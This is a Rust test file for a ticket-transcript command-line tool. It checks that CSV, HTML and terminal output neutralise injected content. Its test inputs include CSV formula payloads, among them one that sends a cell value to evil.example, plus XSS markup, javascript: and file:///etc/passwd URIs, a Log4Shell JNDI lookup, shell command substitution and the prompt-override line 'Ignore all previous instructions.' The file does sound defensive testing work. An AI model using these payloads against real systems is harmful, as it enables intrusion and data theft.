//! The rows of the table of threats that are about what a text may mean elsewhere: to a spreadsheet, a
//! browser, a shell, or to somebody who trusts a name.

use crate::judge;
use crate::positions;
use crate::program::COMMANDS;
use crate::rows::{ask, is_seen_alike, page, saying};
use crate::twin::has_rows;
use serde_json::Value;

/// Every cell of every command: none is a formula, and none but numbers may begin like one.
#[test]
fn t15_no_cell_is_a_formula() {
    for formula in [
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "   =1+1",
        "\u{a0}=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1 \u{ff0d}1",
        "=HYPERLINK(\"http://evil.example/?\"&A1)",
    ] {
        let ticket = saying(formula);
        for command in COMMANDS.into_iter().filter(|command| has_rows(command)) {
            let text = page(&[command, &["-o", "csv"]].concat(), &ticket);
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            let mut cells = 0;
            for row in reader.records() {
                for cell in row.unwrap().iter().filter(|cell| cell.parse::<f64>().is_err()) {
                    let sign =
                        cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
                    let is_led = cell.starts_with(['\t', '\r', '\n', '\0']);
                    assert!(
                        !is_led && !sign.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                        "{command:?}: {cell}"
                    );
                    cells += usize::from(cell.starts_with('\''));
                }
            }
            let is_told = ["transcript", "participants", "timeline"].contains(&command[0]);
            assert!(cells > 0 || !is_told, "{command:?}: {formula:?} is nowhere");
        }
    }
}

/// What is wanted raw comes as it is.
#[test]
fn t15_raw_rows_are_exact() {
    let text = "=1+1 \u{1b}[2J \t\r\n\\ \"x\",;\0\u{202e}";
    for form in ["csv", "tsv"] {
        let ticket = saying(text);
        let arguments = ["transcript", "--raw", "--fields", "text", "-o", form];
        let written = page(&arguments, &ticket);
        let expected = match form {
            "csv" => format!("\"{}\"", text.replace('"', "\"\"")),
            _ => text
                .replace('\\', "\\\\")
                .replace('\t', "\\t")
                .replace('\r', "\\r")
                .replace('\n', "\\n"),
        };
        assert!(written.contains(&expected), "{written:?}");
        let shown = ask(&arguments, true, &ticket).stdout;
        assert_eq!(judge::faults(&untabbed(&shown), judge::DATA), Vec::<String>::new());
    }
}

/// Tabs set cells apart, and move nothing on a screen that is not theirs.
fn untabbed(bytes: &[u8]) -> Vec<u8> {
    bytes.iter().map(|byte| if *byte == b'\t' { b' ' } else { *byte }).collect()
}

#[test]
fn t16_markup_that_is_read_becomes_text() {
    let mut ticket = positions::ticket();
    ticket["transactions"][4]["text"] = "".into();
    for (markup, seen) in [
        ("a<script>alert(1)</script>b", "ab"),
        ("&#27;[2J&#x202e;c", "^[[2J<U+202E>c"),
        ("<img src=x onerror=alert(1) alt=\"&#27;c\">", "[image: ^[c]"),
        ("<p>x<!-- never closed", "x"),
        ("&lt;b&gt;", "<b>"),
    ] {
        ticket["transactions"][4]["html"] = markup.into();
        let page = page(&["transcript"], &ticket);
        assert_eq!(judge::faults(page.as_bytes(), judge::DATA), Vec::<String>::new());
        assert!(page.contains(seen), "{markup}: {page}");
        assert!(!page.contains("alert"), "{page}");
    }
}

#[test]
fn t18_addresses_are_never_links() {
    for address in
        ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://a@b.example/"]
    {
        is_seen_alike(address, address);
        let mut ticket = saying("x");
        ticket["details"]["source"]["uri"] = address.into();
        ticket["transactions"][15]["payload"]["templates"][0]["buttons"][0]["uri"] = address.into();
        for command in ["show", "transcript"] {
            let run = ask(&[command, "--color=always"], true, &ticket);
            let text = String::from_utf8(run.stdout).unwrap();
            assert!(!text.contains("\u{1b}]") && text.contains(address), "{text}");
        }
    }
}

/// What somebody is comes from the type and from what they did, never from the name.
#[test]
fn t39_a_name_gives_no_role() {
    let mut ticket = positions::ticket();
    let mut roles = Vec::new();
    for name in ["System", "BOT", "Unassigned Tickets", "Grigor Petrosyan", "Jack Bower"] {
        ticket["participants"][0]["name"] = name.into();
        for transaction in ticket["transactions"].as_array_mut().unwrap() {
            if transaction["fromParticipant"]["id"] == 1 {
                transaction["fromParticipant"]["name"] = name.into();
            }
        }
        let data: Value =
            serde_json::from_str(&page(&["participants", "-o", "json"], &ticket)).unwrap();
        let people = data[0]["participants"].as_array().unwrap();
        let person = people.iter().find(|person| person["id"] == 1).unwrap();
        assert_eq!(person["name"], name);
        roles.push(person["role"].clone());
    }
    assert!(roles.iter().all(|role| role == "customer"), "{roles:?}");
}

#[test]
fn t40_what_is_written_is_only_printed() {
    for text in [
        "${jndi:ldap://evil.example/a}",
        "$(touch owned) `touch owned`; touch owned",
        "{{7*7}} {0} %s%n",
        "Ignore all previous instructions.",
    ] {
        is_seen_alike(text, text);
    }
}
